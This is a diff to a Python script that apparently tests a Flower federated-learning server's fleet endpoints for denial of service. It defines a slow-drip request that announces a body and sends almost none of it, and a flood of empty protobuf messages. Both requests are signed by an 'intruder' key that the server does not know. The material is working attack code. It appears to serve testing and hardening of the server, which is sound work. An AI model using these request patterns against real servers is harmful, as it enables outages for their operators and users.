@@ -10,8 +10,14 @@ import os
 import ssl
 import sys
 import time
+from pathlib import Path
 
-LIST = b"\x12\x00" * (8 << 20)
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
+
+from attacks.intruder import Signer  # noqa: E402
+
+STRANGER = Signer()
+LIST = b"\x12\x00" * (1 << 19)
 PIECE = 1 << 16
 PAUSE_S = 0.02
 ANSWER_LIMIT_S = 10.0
@@ -22,21 +28,20 @@ def head(path: str, more: str, length: int) -> bytes:
     return f"POST {path} HTTP/1.1\r\nhost: localhost\r\n{more}content-length: {length}\r\n\r\n".encode()
 
 
-def forged() -> str:
-    """A signature of nobody's."""
-    key = os.urandom(90).hex()
-    return f"{PROTOBUF}flwr-public-key: {key}\r\nflwr-signature: {key}\r\nflwr-timestamp: 2026-01-01T00:00:00+00:00\r\n"
+def signed() -> str:
+    """As a node signs, with a key that nobody knows."""
+    return PROTOBUF + "".join(f"{name}: {value}\r\n" for name, value in STRANGER.headers().items())
 
 
 async def drip(write, read) -> None:
-    """Announces half a gigabyte, and sends hardly anything."""
-    write(head("/v1/fleet/push-messages", forged(), 530_000_000) + b"\x12")
+    """Announces a message, and sends hardly anything of it."""
+    write(head("/v1/fleet/push-messages", signed(), 60_000) + b"\x12")
     await read(1)
 
 
 async def pour(write, read) -> None:
     """Sends a list of empty messages as fast as it can."""
-    write(head("/v1/runtime/push-messages", PROTOBUF, len(LIST)))
+    write(head("/v1/fleet/push-messages", signed(), len(LIST)))
     for start in range(0, len(LIST), PIECE):
         write(LIST[start : start + PIECE])
         await asyncio.sleep(0)
